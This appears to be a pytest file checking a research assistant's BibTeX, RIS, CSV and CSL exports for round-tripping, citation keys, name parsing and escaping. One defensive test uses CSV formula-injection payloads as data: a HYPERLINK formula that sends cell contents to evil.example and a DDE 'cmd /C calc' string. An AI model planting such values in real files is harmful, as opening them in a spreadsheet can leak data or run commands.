"""Papers out as BibTeX, RIS and CSV: read by the libraries that read them, and ingested back unchanged."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import get_args

import bibtexparser
import pytest
import rispy

from assistant.cli import main
from assistant.corpus import load_corpus
from assistant.exports import (
    BIBTEX_TYPES,
    ExportFormat,
    cite_key,
    export,
    to_bibtex,
    to_csl,
    to_csv,
    to_ris,
)
from assistant.formats import parse_bibtex, parse_ris
from assistant.types import MORE_AUTHORS, Paper, WorkType

ACCENTED = Paper(
    id="p1", title="Über {Kernels} and $\\Sigma$-models", abstract="We show that {a} 50% -- \"quoted\" <b> claim holds.",
    authors=["Jürgen Müller", "Ana O'Neil"], year=2021, doi="10.1/x", url="https://example.org/p1",
    venue="NeurIPS", categories=["cs.LG", "stat.ML"], work_type="conference",
)
UNBALANCED = Paper(id="p2", title="Sets", abstract="The set {x : x > 0 is open, and more text to make it long enough.")


def _ingest_json(capsys: pytest.CaptureFixture[str], *paths: str) -> dict[str, object]:
    assert main(["ingest", *paths, "--json"]) == 0
    return json.loads(capsys.readouterr().out)


@pytest.mark.parametrize(("fmt", "suffix"), [("bibtex", "bib"), ("bibtex", "bibtex"), ("ris", "ris"), ("csv", "csv"), ("csl", "json")])
def test_an_export_ingests_back_unchanged(
    store_copy: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
    fmt: str, suffix: str,
) -> None:
    monkeypatch.setenv("ASSISTANT_STORE_DIR", str(store_copy))
    out = tmp_path / f"library.{suffix}"
    assert main(["export", "--format", fmt, "-o", str(out)]) == 0
    capsys.readouterr()
    report = _ingest_json(capsys, str(out))
    assert (report["new"], report["updated"], report["unchanged"], report["skipped"]) == (0, 0, 74, 0)


def test_bibtex_is_ordinary_bibtex_for_other_tools() -> None:
    text = to_bibtex([ACCENTED, UNBALANCED])
    library = bibtexparser.parse_string(text)
    assert not library.failed_blocks and [e.key for e in library.entries] == ["muller2021uber", "p2"]
    fields = {k: v.value for k, v in library.entries[0].fields_dict.items()}
    assert library.entries[0].entry_type == "inproceedings" and fields["booktitle"] == "NeurIPS"
    assert fields["author"] == "Jürgen Müller and Ana O'Neil" and fields["year"] == "2021"
    assert fields["keywords"] == "cs.LG, stat.ML" and fields["doi"] == "10.1/x"
    assert "{x : x > 0" not in text and r"\textbraceleft{}x : x > 0" in text  # an unbalanced brace cannot stay a brace


@pytest.mark.parametrize("abstract", [
    "The set {x : x > 0 is open.",  # braces that do not pair (they had come back as parentheses: another paper)
    "Ends in a backslash \\",  # it escaped the brace closing the field: the entry was unreadable
    "A literal \\textbraceleft{} and \\textbackslash{} stay as written; math $\\{a$ too.",
])
def test_what_bibtex_cannot_hold_verbatim_reads_back_as_it_was(abstract: str) -> None:
    paper = Paper(id="b", title="Title { unpaired", abstract=abstract, authors=["Ana Rivera", "Jung & Sons"], year=2020)
    text = to_bibtex([paper])
    assert not bibtexparser.parse_string(text).failed_blocks and r"Jung \& Sons" in text  # a bare & breaks LaTeX
    (_, record), = [item for item in parse_bibtex(text) if isinstance(item[1], dict)]
    assert (record["title"], record["abstract"], record["authors"]) == (paper.title, paper.abstract, paper.authors)


def test_a_reference_to_an_untitled_abstract_is_no_empty_entry() -> None:
    untitled = Paper(id="u1", title="In this paper, we study 50% of the…", abstract="In this paper, we study 50% of it.",
                     has_title=False)
    entry = bibtexparser.parse_string(to_bibtex([untitled], abstracts=False)).entries[0]
    assert entry.fields_dict["note"].value == "Untitled abstract beginning ``In this paper, we study 50\\% of the…'' (id u1)"
    whole = bibtexparser.parse_string(to_bibtex([untitled])).entries[0]  # the export keeps the abstract instead
    assert "note" not in whole.fields_dict and "title" not in whole.fields_dict


def test_our_bibtex_reads_back_verbatim() -> None:
    (_, record), = [item for item in parse_bibtex(to_bibtex([ACCENTED])) if isinstance(item[1], dict)]
    assert record["title"] == ACCENTED.title and record["abstract"] == ACCENTED.abstract
    assert record["authors"] == ACCENTED.authors and record["year"] == 2021 and record["categories"] == ["cs.LG", "stat.ML"]


def test_bibtex_titles_and_venues_typeset_and_read_back_verbatim() -> None:
    """A bare & in a title is a LaTeX error when the bibliography is typeset, and a % in an abstract ends it for a
    tool that reads LaTeX: & % # _ are escaped outside math in titles, venues and abstracts; our reader undoes it."""
    paper = Paper(id="t", title="Theory & Practice: 50% of #1 snake_case $a_b$", abstract="A 0.5% gain & more here.",
                  authors=["Łukasz Øster"], year=2020, venue="J. Data & Knowledge", work_type="article")
    text = to_bibtex([paper])
    fields = {k: v.value for k, v in bibtexparser.parse_string(text).entries[0].fields_dict.items()}
    assert fields["title"] == r"{Theory \& Practice: 50\% of \#1 snake\_case $a_b$}"
    assert fields["journal"] == r"J. Data \& Knowledge" and fields["abstract"] == r"A 0.5\% gain \& more here."
    (_, record), = [item for item in parse_bibtex(text) if isinstance(item[1], dict)]
    assert (record["title"], record["venue"], record["abstract"]) == (paper.title, paper.venue, paper.abstract)
    from bibtexparser.middlewares import LatexDecodingMiddleware

    decoded = bibtexparser.parse_string(text, append_middleware=[LatexDecodingMiddleware()]).entries[0]
    assert decoded.fields_dict["abstract"].value == paper.abstract  # another tool reads the whole abstract
    assert bibtexparser.parse_string(text).entries[0].key == "oster2020theory"  # Ø and Ł spelt, not dropped


def test_ris_and_csv_carry_the_metadata() -> None:
    (entry,) = rispy.loads(to_ris([ACCENTED]))
    assert entry["authors"] == ["Müller, Jürgen", "O'Neil, Ana"] and entry["year"] == "2021" and entry["urls"] == [ACCENTED.url]
    assert not to_ris([ACCENTED]).startswith("1.")  # no record numbers: reference managers do not expect them
    header, row = to_csv([ACCENTED]).splitlines()[:2]
    assert header.startswith("Key,Item Type,Title,Author,Publication Year,Abstract Note") and "Müller, Jürgen; O'Neil, Ana" in row
    assert row.startswith("muller2021uber,conferencePaper,")  # Zotero's Item Type


def test_a_csv_export_reads_back_with_its_tags_and_one_author_as_one() -> None:
    from assistant.corpus import parse_csv

    longer = ACCENTED.model_copy(update={"abstract": ACCENTED.abstract + " It holds for every kernel we tried on the benchmarks."})
    (draft,), issues = parse_csv(to_csv([longer]), "library.csv")
    assert not issues
    assert (draft.authors, draft.categories, draft.year) == (ACCENTED.authors, ACCENTED.categories, 2021)
    # Zotero and Mendeley write one author as "Last, First": one person, not two.
    one = 'Title,Author,Abstract Note,Manual Tags\nSets,"Kowalski, Piotr","%s",cs.LG\n' % longer.abstract.replace('"', "'")
    (draft,), _ = parse_csv(one, "one.csv")
    assert (draft.authors, draft.categories) == (["Piotr Kowalski"], ["cs.LG"])


def test_a_csv_export_runs_no_formula_in_a_spreadsheet_and_reads_back_unchanged() -> None:
    """An added file is untrusted: "=HYPERLINK(…)" as a title runs when the exported CSV is opened in a spreadsheet."""
    from assistant.corpus import parse_csv

    hostile = ACCENTED.model_copy(update={
        "title": '=HYPERLINK("https://evil.example/?"&A1,"Open")', "venue": "@SUM(1+1)*cmd|' /C calc'!A0",
        "abstract": "+" + ACCENTED.abstract + " It holds for every kernel we tried on the benchmarks.",
    })
    (row,) = csv.DictReader(to_csv([hostile]).splitlines())
    cells = [v for v in row.values() if v]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t"))], row  # a spreadsheet shows them as text
    assert row["Title"] == "'" + hostile.title and row["Abstract Note"].startswith("'+")
    (draft,), issues = parse_csv(to_csv([hostile]), "library.csv")
    assert not issues and (draft.title, draft.abstract, draft.venue) == (hostile.title, hostile.abstract, hostile.venue)
    assert to_csv([ACCENTED]).count("'") == to_csv([ACCENTED]).count("O'Neil")  # nothing else is touched


@pytest.mark.parametrize("kind", [*get_args(WorkType), None])
def test_each_kind_of_work_exports_as_its_own_type_and_reads_back(kind: WorkType | None) -> None:
    """@inproceedings with a booktitle, @phdthesis with a school, RIS CPAPER, Zotero's conferencePaper: not
    @article for everything. Each format reads its own export back to the same kind and venue."""
    from assistant.corpus import _draft_from_record, parse_csv
    from assistant.exports import CSL_TYPES, to_csl

    longer = ACCENTED.model_copy(update={"work_type": kind, "url": None, "abstract": ACCENTED.abstract + " It holds for every kernel we tried on the benchmarks."})
    entry_type, venue_field = BIBTEX_TYPES[kind]
    (entry,) = bibtexparser.parse_string(to_bibtex([longer])).entries
    assert entry.entry_type == entry_type and entry.fields_dict[venue_field].value == "NeurIPS"
    (_, record), = [item for item in parse_bibtex(to_bibtex([longer])) if isinstance(item[1], dict)]
    assert (record["work_type"], record["venue"]) == (kind, "NeurIPS")
    (_, record), = [item for item in parse_ris(to_ris([longer])) if isinstance(item[1], dict)]
    assert (record["work_type"], record["venue"]) == (kind, "NeurIPS")
    (draft,), _ = parse_csv(to_csv([longer]), "library.csv")
    assert (draft.work_type, draft.venue) == (kind, "NeurIPS")  # a master's thesis by Zotero's Type column
    (item,) = json.loads(to_csl([longer]))
    assert item["type"] == CSL_TYPES[kind]
    draft = _draft_from_record(item, "library.json")
    assert not isinstance(draft, str) and (draft.work_type, draft.venue, draft.authors) == (kind, "NeurIPS", longer.authors)


def test_a_masters_thesis_keeps_its_degree_through_bibtex_ris_and_csl(tmp_path: Path) -> None:
    """@mastersthesis was exported as @phdthesis; RIS and CSL, with one thesis type each, now say master's in
    M3 and genre, Zotero's CSV in its Type column."""
    thesis = ACCENTED.model_copy(update={"work_type": "masters_thesis", "venue": "ETH Zurich", "url": None,
                                         "abstract": ACCENTED.abstract + " It holds for every kernel we tried on the benchmarks."})
    (entry,) = bibtexparser.parse_string(to_bibtex([thesis])).entries
    assert (entry.entry_type, entry.fields_dict["school"].value) == ("mastersthesis", "ETH Zurich")
    for name, text in (("t.bib", to_bibtex([thesis])), ("t.ris", to_ris([thesis])), ("t.json", to_csl([thesis])), ("t.csv", to_csv([thesis]))):
        (tmp_path / name).write_text(text)
        (back,) = load_corpus([tmp_path / name]).papers
        assert (back.work_type, back.venue) == ("masters_thesis", "ETH Zurich"), name


def test_an_arxiv_preprint_exports_as_arxiv_writes_it() -> None:
    preprint = ACCENTED.model_copy(update={"work_type": "preprint", "url": "https://arxiv.org/abs/2101.00001v2", "venue": None})
    (entry,) = bibtexparser.parse_string(to_bibtex([preprint])).entries
    fields = {k: v.value for k, v in entry.fields_dict.items()}
    # the paper, not the version the link names (arXiv's own BibTeX); the link keeps its version
    assert entry.entry_type == "misc" and (fields["eprint"], fields["archiveprefix"]) == ("2101.00001", "arXiv")
    assert fields["url"] == "https://arxiv.org/abs/2101.00001v2"
    assert fields["primaryclass"] == "cs.LG"  # arXiv lists the primary category first, and writes it so
    tagged = preprint.model_copy(update={"categories": ["hep-th", "kernels", "cs.LG"]})
    (_, record), = [item for item in parse_bibtex(to_bibtex([tagged])) if isinstance(item[1], dict)]
    assert record["categories"] == ["hep-th", "kernels", "cs.LG"]  # read back whole, in order
    (entry,) = bibtexparser.parse_string(to_bibtex([tagged.model_copy(update={"categories": ["kernels", "cs.LG"]})])).entries
    assert "primaryclass" not in entry.fields_dict  # a keyword is not a category
    (_, record), = [item for item in parse_bibtex(to_bibtex([preprint])) if isinstance(item[1], dict)]
    assert record["work_type"] == "preprint" and record["arxiv_id"] == "2101.00001"
    assert record["url"] == "https://arxiv.org/abs/2101.00001v2"  # the link read back names the version it named


def test_a_title_keeps_its_capitals_in_other_tools_and_reads_back_exactly() -> None:
    """The whole title is braced, so a style that lower-cases titles keeps "BERT"; a title with braces of its
    own keeps them, and ours come off again."""
    for title in ["BERT: Pre-training of Deep Bidirectional Transformers", "{BERT} and {GPT}", "{Whole}"]:
        paper = ACCENTED.model_copy(update={"title": title})
        text = to_bibtex([paper])
        assert bibtexparser.parse_string(text).entries[0].fields_dict["title"].value == "{" + title + "}"
        (_, record), = [item for item in parse_bibtex(text) if isinstance(item[1], dict)]
        assert record["title"] == title


def test_cite_keys_are_unique_and_readable() -> None:
    taken: set[str] = set()
    keys = [cite_key(ACCENTED, taken) for _ in range(3)]
    assert keys == ["muller2021uber", "muller2021ubera", "muller2021uberb"]


def test_export_by_id_and_ask_bibtex(
    seeded_store: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("ASSISTANT_STORE_DIR", str(seeded_store))
    assert main(["ask", "Which methods make post-training quantization more accurate?", "--json", "--bibtex", "--local"]) == 0
    data = json.loads(capsys.readouterr().out)
    entries = bibtexparser.parse_string(data["bibtex"]).entries
    assert len(entries) == len(data["citations"]) >= 1
    # the references to cite, as the page's box holds them: each cited paper's title, no abstract
    assert [e.fields_dict["title"].value for e in entries] == ["{" + c["title"] + "}" for c in data["citations"]]
    assert not any("abstract" in e.fields_dict for e in entries)
    assert main(["export", data["citations"][0]["paper_id"], "--format", "ris"]) == 0
    assert capsys.readouterr().out.count("TY  - GEN") == 1  # a text file says no kind of work: generic
    assert main(["export", "no-such-id"]) == 2
    assert "no paper 'no-such-id'" in capsys.readouterr().err


def test_an_answer_citing_nothing_has_no_references_and_an_empty_list_exports_no_paper(seeded_store: Path) -> None:
    """An abstention's references were the whole store: an empty list of ids read as "every paper"."""
    from assistant.api import Assistant
    from assistant.config import Settings

    a = Assistant(Settings(store_dir=seeded_store))
    answer = a.ask("What is the recipe for sourdough bread?")
    assert answer.abstained and a.references([c.paper_id for c in answer.citations]) == ""
    assert json.loads(a.export([], "csl")) == [] and len(list(csv.reader(a.export([], "csv").splitlines()))) == 1
    assert a.export(None, "ris").count("TY  -") == a.paper_count()  # None is every paper


def test_the_page_takes_a_bibtex_upload(store_copy: Path, tmp_path: Path) -> None:
    from assistant.api import Assistant
    from assistant.config import Settings
    from assistant.ui.handlers import Handlers

    bib = tmp_path / "mine.bib"
    bib.write_text(
        "@article{rivera2021,\n  title = {Kernels for {Wide} Networks},\n  author = {Rivera, Ana and Chen, Bo},\n"
        "  year = {2021},\n  abstract = {We show that wide networks trained by gradient descent behave like kernel "
        "machines whose kernel stays nearly constant during training.}\n}\n"
    )
    assistant = Assistant(Settings(store_dir=store_copy))
    report, _, _ = Handlers(assistant).add_files([str(bib)], "")
    assert "1 new" in report
    added = next(p for p in assistant.papers() if p.title == "Kernels for Wide Networks")
    assert added.authors == ["Ana Rivera", "Bo Chen"] and added.year == 2021


def test_the_kind_of_work_survives_the_store_and_comes_out_in_the_export(
    store_copy: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("ASSISTANT_STORE_DIR", str(store_copy))
    bib = tmp_path / "mine.bib"
    bib.write_text(
        "@inproceedings{rivera2021,\n  title = {Kernels for {Wide} Networks},\n  author = {Rivera, Ana},\n"
        "  booktitle = {Proc. ICML},\n  year = {2021},\n  month = jul,\n  abstract = {We show that wide networks trained by gradient "
        "descent behave like kernel machines whose kernel stays nearly constant during training.}\n}\n"
    )
    assert _ingest_json(capsys, str(bib))["new"] == 1
    assert _ingest_json(capsys, str(bib))["unchanged"] == 1  # read again: the same paper, not an update
    assert main(["papers", "--json"]) == 0
    (paper,) = [p for p in json.loads(capsys.readouterr().out) if p["title"] == "Kernels for Wide Networks"]
    assert paper["work_type"] == "conference" and paper["venue"] == "Proc. ICML" and paper["month"] == 7
    assert main(["export", paper["id"], "--format", "bibtex"]) == 0
    (entry,) = bibtexparser.parse_string(capsys.readouterr().out).entries
    assert entry.entry_type == "inproceedings" and entry.fields_dict["booktitle"].value == "Proc. ICML"
    assert entry.fields_dict["month"].value == "jul"


def test_new_metadata_for_a_paper_is_written_without_embedding_it_again(
    store_copy: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The model reads the title and abstract only: a new year, venue or kind of work (or a version of us that
    reads one more field) updates the record; a new title is embedded again."""
    monkeypatch.setenv("ASSISTANT_STORE_DIR", str(store_copy))
    abstract = ("We show that wide networks trained by gradient descent behave like kernel machines whose kernel "
                "stays nearly constant during training.")
    bib = tmp_path / "mine.bib"
    bib.write_text(f"@misc{{r, title = {{Kernels}}, year = {{2020}}, abstract = {{{abstract}}}}}\n")
    assert _ingest_json(capsys, str(bib))["new"] == 1
    bib.write_text(f"@inproceedings{{r, title = {{Kernels}}, year = {{2021}}, booktitle = {{ICML}}, abstract = {{{abstract}}}}}\n")
    report = _ingest_json(capsys, str(bib))
    assert (report["updated"], report["chunks_embedded"]) == (1, 0)
    assert main(["papers", "--json"]) == 0
    (paper,) = [p for p in json.loads(capsys.readouterr().out) if p["title"] == "Kernels"]
    assert (paper["year"], paper["venue"], paper["work_type"]) == (2021, "ICML", "conference")
    assert main(["retrieve", "kernel machines wide networks", "--venue", "ICML", "--json", "--local"]) == 0
    assert [p["title"] for p in json.loads(capsys.readouterr().out)] == ["Kernels"]  # the header file followed
    assert _ingest_json(capsys, str(bib))["unchanged"] == 1
    bib.write_text(f"@inproceedings{{r, title = {{Wide Kernels}}, year = {{2021}}, abstract = {{{abstract}}}}}\n")
    report = _ingest_json(capsys, str(bib))
    assert report["updated"] == 1 and report["chunks_embedded"] >= 1


@pytest.mark.parametrize(
    ("link", "found"),
    [("http://arxiv.org/abs/2101.00001/", "2101.00001"), ("https://arxiv.org/abs/2101.00001v2?context=cs", "2101.00001v2"),
     ("https://arxiv.org/pdf/2101.00001v1.pdf", "2101.00001v1"), ("https://arxiv.org/abs/hep-th/9901001v1", "hep-th/9901001v1"),
     ("https://arxiv.org/abs/2101.00001#sec", "2101.00001"), ("https://arxiv.org/abs/notanid", None)],
)
def test_the_arxiv_id_is_read_from_any_arxiv_link(link: str, found: str | None) -> None:
    from assistant.exports import arxiv_id

    assert arxiv_id(ACCENTED.model_copy(update={"url": link})) == found


def test_a_link_as_the_venue_of_an_untyped_paper_reads_back_from_our_export() -> None:
    paper = ACCENTED.model_copy(update={"work_type": None, "venue": "https://openreview.net/forum?id=abc"})
    (_, record), = [item for item in parse_bibtex(to_bibtex([paper])) if isinstance(item[1], dict)]
    assert record["venue"] == paper.venue


def test_one_paper_in_two_files_takes_its_kind_and_venue_from_the_same_one() -> None:
    """arXiv's preprint and the library's @inproceedings: the published version, with its own venue."""
    from assistant.corpus import _Draft, merge

    abstract = ACCENTED.abstract + " It holds for every kernel we tried on the benchmarks."
    arxiv = _Draft(abstract=abstract, source="arxiv.jsonl", title="T", work_type="preprint", venue="Submitted to JMLR")
    bib = _Draft(abstract=abstract, source="lib.bib", title="T", work_type="conference", venue="Proc. ICML")
    for order in ([arxiv, bib], [bib, arxiv]):
        (paper,) = merge(order)
        assert (paper.work_type, paper.venue) == ("conference", "Proc. ICML")


def test_a_reference_names_the_year_once_when_the_venue_already_says_it() -> None:
    from assistant.types import Citation

    cited = Citation.of(1, ACCENTED.model_copy(update={"venue": "Phys. Rev. D 70 (2004)", "year": 2004, "url": None}), "q")
    assert cited.reference().endswith("Jürgen Müller and Ana O'Neil, Phys. Rev. D 70 (2004)")


def test_names_with_particles_and_suffixes_are_written_as_each_format_splits_them() -> None:
    """BibTeX "King, Jr., Martin Luther", RIS "van der Berg, Jan", CSL {given, non-dropping-particle, family,
    suffix}: read by bibtexparser and rispy as the right family names, and by us back as written."""
    from bibtexparser.middlewares import SeparateCoAuthors, SplitNameParts

    from assistant.corpus import _draft_from_record
    from assistant.exports import to_csl

    paper = ACCENTED.model_copy(update={"authors": ["Martin Luther King Jr.", "Jan van der Berg", "DeepMind", "et al."],
                                        "abstract": ACCENTED.abstract + " It holds for every kernel we tried on the benchmarks."})
    library = bibtexparser.parse_string(to_bibtex([paper]), append_middleware=[SeparateCoAuthors(), SplitNameParts()])
    assert [n.last for n in library.entries[0].fields_dict["author"].value][:3] == [["King"], ["Berg"], ["DeepMind"]]
    (entry,) = rispy.loads(to_ris([paper]))
    assert entry["authors"] == ["King, Martin Luther, Jr.", "van der Berg, Jan", "DeepMind"]
    (item,) = json.loads(to_csl([paper]))
    assert item["author"][:2] == [{"given": "Martin Luther", "family": "King", "suffix": "Jr."},
                                  {"given": "Jan", "non-dropping-particle": "van der", "family": "Berg"}]
    for text, parse in ((to_bibtex([paper]), parse_bibtex), (to_ris([paper]), parse_ris)):
        (_, record), = [item for item in parse(text) if isinstance(item[1], dict)]
        assert record["authors"] == paper.authors
    draft = _draft_from_record(item, "x.json")
    assert not isinstance(draft, str) and draft.authors == paper.authors


GROUPS_BIB = r"""
@article{realism2021,
  title = {Magic Realism for Language Models}, year = {2021}, journal = {Journal of Fiction},
  author = {Garc{\'i}a M{\'a}rquez, Gabriel and {The ATLAS Collaboration} and {Barnes and Noble} and van der Berg, Jan},
  abstract = {We study magic realism in language models and find that large models narrate improbable events as mundane facts.}
}
"""


def test_a_family_name_of_several_words_and_a_groups_name_survive_the_store_and_every_export(
    store_copy: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A name was one string: "Gabriel García Márquez" went out as family "Márquez", "The ATLAS Collaboration" as
    family "Collaboration", and "{Barnes and Noble}" came in as two authors."""
    from bibtexparser.middlewares import SeparateCoAuthors, SplitNameParts

    monkeypatch.setenv("ASSISTANT_STORE_DIR", str(store_copy))
    bib = tmp_path / "groups.bib"
    bib.write_text(GROUPS_BIB, encoding="utf-8")
    assert _ingest_json(capsys, str(bib))["new"] == 1
    assert main(["papers", "--json"]) == 0
    (paper,) = [p for p in json.loads(capsys.readouterr().out) if p["title"] == "Magic Realism for Language Models"]
    assert paper["authors"] == ["Gabriel García Márquez", "The ATLAS Collaboration", "Barnes and Noble", "Jan van der Berg"]

    exported = {}
    for fmt in ("bibtex", "ris", "csl"):
        assert main(["export", paper["id"], "--format", fmt]) == 0
        exported[fmt] = capsys.readouterr().out
    library = bibtexparser.parse_string(exported["bibtex"], append_middleware=[SeparateCoAuthors(), SplitNameParts()])
    names = library.entries[0].fields_dict["author"].value
    assert [(n.first, n.last) for n in names] == [
        (["Gabriel"], ["García", "Márquez"]), ([], ["{The ATLAS Collaboration}"]), ([], ["{Barnes and Noble}"]), (["Jan"], ["Berg"]),
    ]
    (entry,) = rispy.loads(exported["ris"])
    assert entry["authors"] == ["García Márquez, Gabriel", "The ATLAS Collaboration", "Barnes and Noble", "van der Berg, Jan"]
    (item,) = json.loads(exported["csl"])
    assert item["author"][:3] == [
        {"given": "Gabriel", "family": "García Márquez"}, {"literal": "The ATLAS Collaboration"}, {"literal": "Barnes and Noble"},
    ]
    for fmt, suffix in (("bibtex", "bib"), ("csl", "json")):  # each read back as the same paper: nothing to update
        (tmp_path / f"out.{suffix}").write_text(exported[fmt], encoding="utf-8")
        assert _ingest_json(capsys, str(tmp_path / f"out.{suffix}"))["unchanged"] == 1
    (read,) = load_corpus([bib]).papers
    assert cite_key(read.model_copy(update={"key": None}), set()) == "garciamarquez2021magic"


@pytest.mark.parametrize(("name", "text"), [
    ("names.ris", "TY  - JOUR\nAU  - García Márquez, Gabriel\nAU  - Rivera, Ana\nTI  - Realism\nAB  - {abstract}\nER  - \n"),
    ("names.json", json.dumps([{"type": "article-journal", "title": "Realism", "abstract": "{abstract}", "author": [
        {"family": "García Márquez", "given": "Gabriel"}, {"family": "Rivera", "given": "Ana"}]}])),
    ("names.jsonl", json.dumps({"id": "2101.00001", "title": "Realism", "abstract": "{abstract}", "update_date": "2021-01-02",
                                "authors_parsed": [["García Márquez", "Gabriel", ""], ["Rivera", "Ana", ""]]})),
    ("names.csv", "Title,Author,Abstract Note\nRealism,\"García Márquez, Gabriel; Rivera, Ana\",{abstract}\n"),
], ids=["ris", "csl-json", "arxiv", "zotero-csv"])
def test_every_format_that_says_a_family_name_keeps_it(tmp_path: Path, name: str, text: str) -> None:
    abstract = "We study magic realism in language models and find that large models narrate improbable events as facts."
    (tmp_path / name).write_text(text.replace("{abstract}", abstract), encoding="utf-8")
    (paper,) = load_corpus([tmp_path / name]).papers
    assert paper.authors == ["Gabriel García Márquez", "Ana Rivera"]
    assert paper.families == {"Gabriel García Márquez": "García Márquez"}  # Rivera is the name's last word anyway
    assert to_bibtex([paper]).count("García Márquez, Gabriel and Ana Rivera") == 1


KEYED = r"""
@inproceedings{okafor2021thesis,
  title={Calibrated Graph Ensembles under Covariate Shift}, author={Okafor, Ada and Lin, Bo}, year={2021},
  booktitle={Proceedings of ICML},
  abstract={We study calibration of graph neural network ensembles under controlled covariate shift and release a benchmark.}
}
@article{okafor2021thesis,
  title={A Second Entry Under the Same Key}, author={Okafor, Ada}, year={2022}, journal={JMLR},
  abstract={Another abstract that reuses the key of the entry before it, as a hand-kept .bib sometimes does by mistake.}
}
"""


def test_the_citation_keys_of_a_bib_or_csl_file_are_kept_in_every_export(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A researcher's \\cite{okafor2021thesis} broke: the export wrote okafor2021calibrated. A key used twice
    is kept by its first entry; a key the export would make anyway is not stored, so our export reads back
    unchanged; Zotero's own CSL ids (item links) are no keys."""
    monkeypatch.setenv("ASSISTANT_STORE_DIR", str(tmp_path / "store"))
    (tmp_path / "mine.bib").write_text(KEYED)
    csl = [{"id": "tanaka2022lowrank", "type": "article-journal", "title": "Low-Rank Adapters Forget Less",
            "author": [{"family": "Tanaka", "given": "Yui"}], "issued": {"date-parts": [[2022]]},
            "abstract": "We measure catastrophic forgetting of low-rank adapters across fourteen continual learning sequences."},
           {"id": "http://zotero.org/users/1/items/ABCD1234", "type": "article-journal", "title": "Zotero Item",
            "author": [{"family": "Ng", "given": "Al"}], "issued": {"date-parts": [[2020]]},
            "abstract": "An item exported by Zotero itself, whose id is a link to the item rather than a citation key."}]
    (tmp_path / "mine.json").write_text(json.dumps(csl))
    assert main(["ingest", str(tmp_path / "mine.bib"), str(tmp_path / "mine.json"), "--quiet"]) == 0
    for fmt, pattern in (("bibtex", "@{type}{{{key},"), ("csl", '"id": "{key}"')):
        assert main(["export", "--format", fmt]) == 0
        out = capsys.readouterr().out
        for type_, key in (("inproceedings", "okafor2021thesis"), ("article", "tanaka2022lowrank"), ("article", "okafor2022second"), ("article", "ng2020zotero")):
            assert pattern.format(type=type_, key=key) in out, (fmt, key)
    assert main(["export", "--format", "bibtex", "-o", str(tmp_path / "out.bib")]) == 0
    capsys.readouterr()
    report = _ingest_json(capsys, str(tmp_path / "out.bib"))
    assert (report["new"], report["updated"], report["unchanged"]) == (0, 0, 4)
    keys = {p.title: p.key for p in load_corpus([tmp_path / "out.bib"]).papers}
    assert keys["Calibrated Graph Ensembles under Covariate Shift"] == "okafor2021thesis"
    assert keys["Zotero Item"] is None  # ng2020zotero is what the export makes of it anyway
    assert main(["export", "--format", "ris", "-o", str(tmp_path / "out.ris")]) == 0  # RIS keeps it as the ID
    capsys.readouterr()
    report = _ingest_json(capsys, str(tmp_path / "out.ris"))
    assert (report["new"], report["updated"], report["unchanged"]) == (0, 0, 4)  # was: 4 updated, keys lost
    assert main(["export", "--format", "csv", "-o", str(tmp_path / "out.csv")]) == 0  # the CSV's Key column
    capsys.readouterr()
    report = _ingest_json(capsys, str(tmp_path / "out.csv"))
    assert (report["new"], report["updated"], report["unchanged"]) == (0, 0, 4)
    zotero = '"Key","Title","Abstract Note"\n"5UVPXHGZ","Z","' + "An item exported by Zotero as CSV, keyed by its own item key. " * 2 + '"\n'
    (tmp_path / "zotero.csv").write_text(zotero)
    assert [p.key for p in load_corpus([tmp_path / "zotero.csv"]).papers] == [None]  # an item key is no citation key


def test_a_given_key_is_never_taken_by_another_papers_derived_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A .bib's rivera2020deep equals the key the export derives for it, and also the one it derives for another
    paper by Rivera from 2020 with a "Deep …" title, stored first: that paper got the key, and \\cite{rivera2020deep}
    cited it."""
    monkeypatch.setenv("ASSISTANT_STORE_DIR", str(tmp_path / "store"))
    (tmp_path / "a.jsonl").write_text(json.dumps({
        "title": "Deep Audio Priors", "authors": ["Ana Rivera"], "year": 2020,
        "abstract": "We learn priors for audio restoration from a single recording, without any training data at all.",
    }) + "\n")
    (tmp_path / "b.bib").write_text(
        "@article{rivera2020deep, title={Deep Kernels for Small Data}, author={Rivera, Ana}, year={2020},\n"
        "  abstract={We build deep kernels that generalise from a few dozen labelled examples on tabular data sets.}}\n"
    )
    assert main(["ingest", str(tmp_path / "a.jsonl"), "--quiet"]) == 0
    assert main(["ingest", str(tmp_path / "b.bib"), "--quiet"]) == 0
    capsys.readouterr()
    assert main(["export", "--format", "bibtex"]) == 0
    entries = {e.fields_dict["title"].value: e.key for e in bibtexparser.parse_string(capsys.readouterr().out).entries}
    assert entries == {"{Deep Kernels for Small Data}": "rivera2020deep", "{Deep Audio Priors}": "rivera2020deepa"}


@pytest.mark.parametrize(
    ("given", "kept"),
    [("vaswani2017attention", True), ("DBLP:conf/nips/VaswaniSPUJGKP17", True), ("2017arXiv170603762V", True),
     ("ITEM-1", False), ("123", False), ("6b1f6cad9114", False), ("http://zotero.org/users/1/items/AB12", False), ("a b", False)],
)
def test_what_reads_as_a_citation_key(given: str, kept: bool) -> None:
    from assistant.formats import citation_key

    assert (citation_key(given) == given) is kept


LOCATED = Paper(
    id="p3", title="Long Short-Term Memory", abstract="Learning to store information over extended time intervals by recurrent "
    "backpropagation takes a very long time, mostly because of insufficient, decaying error backflow.",
    authors=["Sepp Hochreiter", "Jürgen Schmidhuber"], year=1997, venue="Neural Computation", work_type="article",
    volume="9", issue="8", pages="1735–1780", publisher="MIT Press",
)
REPORT = Paper(
    id="p4", title="A Report", abstract="We report on a long series of experiments with recurrent networks and what they learned.",
    year=2001, venue="IDSIA", work_type="report", issue="TR-07-01", pages="12",
)


SUFFIXES: dict[ExportFormat, str] = {"bibtex": "bib", "ris": "ris", "csv": "csv", "csl": "json"}


